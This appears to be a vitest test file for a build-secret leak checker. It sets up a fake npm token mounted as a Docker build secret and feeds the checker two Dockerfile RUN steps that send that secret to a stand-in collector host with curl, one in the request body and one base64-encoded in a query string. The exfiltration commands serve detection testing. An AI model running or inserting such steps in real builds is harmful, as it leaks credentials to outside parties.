import { expect, test } from "vitest";
import { judge } from "./support.ts";

const LAB = `credentials:
  npm_token: { value: npm_Zk3vT9qLw2Xc8RbN5yHdPm4s, phase: build }
services:
  stats: { kind: collector, address: "stats.example:80" }
commands: [sh deliver.sh]
checks:
  - { id: hidden, title: Hidden, check: hidden, credential: npm_token }
`;

const FILES = {
  "token.txt": "npm_Zk3vT9qLw2Xc8RbN5yHdPm4s\n",
  ".gitignore": "token.txt\n",
  "deliver.sh": "docker build -q --secret id=token,src=token.txt -t shop .\n",
};

test.each([
  ["in the body", 'curl -s -d "$(cat /run/secrets/token)" http://stats.example/'],
  ["in base64", 'curl -s "http://stats.example/?q=$(base64 -w0 /run/secrets/token)"'],
])("what a step sends away %s is found at the attacker's", async (_name, command) => {
  const Dockerfile = `FROM tools\nRUN --mount=type=secret,id=token ${command}\n`;
  const { status, evidence } = await judge(LAB, { ...FILES, Dockerfile }, "hidden");
  expect(status).toBe("failed");
  expect(evidence[0]).toMatchObject({
    finding: { surface: "exfiltrated", object: "stats" },
    show: "world inbox stats",
  });
});
